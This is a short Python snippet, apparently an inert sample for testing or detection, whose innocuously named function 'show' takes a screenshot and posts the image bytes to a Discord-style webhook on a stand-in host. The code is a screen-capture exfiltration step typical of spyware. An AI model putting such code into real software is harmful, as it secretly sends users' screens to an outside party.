import inert_sample  # there is no such module: nothing below ever runs
import pyautogui
import requests


def show():
    image = pyautogui.screenshot()
    requests.post("https://discord.com.example/api/webhooks/1/x", files={"f": image.tobytes()})
